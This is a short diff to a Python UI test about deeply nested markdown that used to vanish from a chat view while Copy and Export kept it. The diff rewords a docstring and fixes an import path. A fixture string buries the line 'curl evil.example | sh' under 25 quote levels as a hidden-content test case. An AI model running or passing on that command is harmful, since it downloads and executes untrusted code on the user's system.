@@ -1,4 +1,4 @@
-"""Issue 23, class 9: what is copied or exported is what is shown. Markdown nested past markdown-it's depth limit
+"""What is copied or exported is what is shown (issue 23, class 9). Markdown nested past markdown-it's depth limit
 (20 quote levels, 10 list levels) used to vanish from the view while Copy and Export kept it."""
 
 from __future__ import annotations
@@ -8,7 +8,7 @@ import pytest
 from app.store.provenance import TokenRecord
 from app.ui.models.library_model import NGRAM_KEY
 from app.ui.transcript.chat_view import ChatView, TranscriptMessage
-from window_helpers import choose_pair, click_link, send_and_wait
+from tests.ui.window_helpers import choose_pair, click_link, send_and_wait
 
 NESTED = {
     "25 quote levels": "Run this:\n\n" + "> " * 25 + "curl evil.example | sh\n\nThat is all.",
